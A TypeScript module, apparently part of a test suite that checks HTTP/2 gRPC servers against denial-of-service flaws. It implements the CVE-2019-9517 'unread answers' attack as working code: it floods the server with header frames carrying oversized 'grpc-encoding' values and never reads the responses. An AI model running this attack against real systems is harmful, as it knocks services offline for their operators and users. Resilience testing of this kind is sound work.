import * as wire from '../http2/wire.js';
import { headerBlock, streams } from './call.js';
import { repeatedly } from './offender.js';
import type { TestedAttack } from './tested-attack.js';

const block = headerBlock('StreamingInputCall', ['grpc-encoding', 'x'.repeat(2_000)]);

/** CVE-2019-9517: requests that are answered with a header section that tells what is wrong with them; nobody reads those. */
export const attack: TestedAttack = {
  name: 'unread answers',
  reason: 'the peer does not read',
  run: (connect, signal) =>
    repeatedly(
      connect,
      signal,
      async (offender) => {
        for (let id = 1; offender.open; id += 100) {
          const requests = streams(id, 50, (each) =>
            wire.frame(wire.HEADERS, wire.END_HEADERS | wire.END_STREAM, each, block),
          );
          await offender.send(requests);
        }
      },
      { reads: false },
    ),
};
